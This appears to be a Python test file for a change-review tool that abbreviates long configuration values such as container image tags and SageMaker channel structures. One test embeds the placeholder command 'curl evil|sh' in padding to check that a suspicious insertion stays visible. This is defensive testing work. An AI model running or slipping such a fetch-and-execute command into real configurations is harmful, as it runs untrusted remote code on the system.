"""Shortened values stay distinguishable."""

from hypothesis import given
from hypothesis import strategies as st

from smspec.review.change import Change
from smspec.review.shown_values import LONGEST, MOST_DIFFERING, shown_values

REGISTRY = "763104351884.dkr.ecr.us-west-2.amazonaws.com/pytorch-training"


def shown(old, new):
    return shown_values(Change(kind="image", path=(), what="", old=old, new=new))


def test_long_tags_are_shortened_to_their_difference():
    old, new = shown(*(f"{REGISTRY}:2.{number}.0-gpu-py311-cu121-ubuntu20.04-sagemaker" for number in (3, 4)))
    assert (":2.3.0-gpu" in old, ":2.4.0-gpu" in new) == (True, True)


@given(st.text("ab", max_size=200), st.text("ab", max_size=200), st.text("ab", max_size=200))
def test_different_values_are_shown_differently(before, middle, after):
    old, new = shown(f"{before}x{middle}{after}", f"{before}y{middle}{after}")
    assert old != new
    assert max(len(old), len(new)) <= LONGEST + MOST_DIFFERING


def test_part_that_differs_is_shown_or_counted():
    """Padding around a command does not hide it."""
    pad = "echo hello; " * 50
    command = "curl evil|sh; "
    old, new = shown(pad + pad, pad + command + pad)
    assert command in new and command not in old and "characters" not in new
    _, new = shown(None, ["sh", "-c", "echo hello; " * 5 + command + "echo bye; " * 5])
    assert command in new
    _, new = shown(None, ["sh", "-c", pad + command])
    assert new.endswith(f"… (+{len(pad + command) - 232:,} characters)")


def test_large_structure_shows_its_values():
    s3 = {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://example-data/train/"}}
    channel = {"ChannelName": "train", "DataSource": s3, "InputMode": "File"}
    assert shown(None, channel) == ("(none)", "train, S3Prefix, s3://example-data/train/, File")


def test_small_structure_is_shown_whole():
    assert shown({"train": "csv"}, []) == ('{"train": "csv"}', "[]")
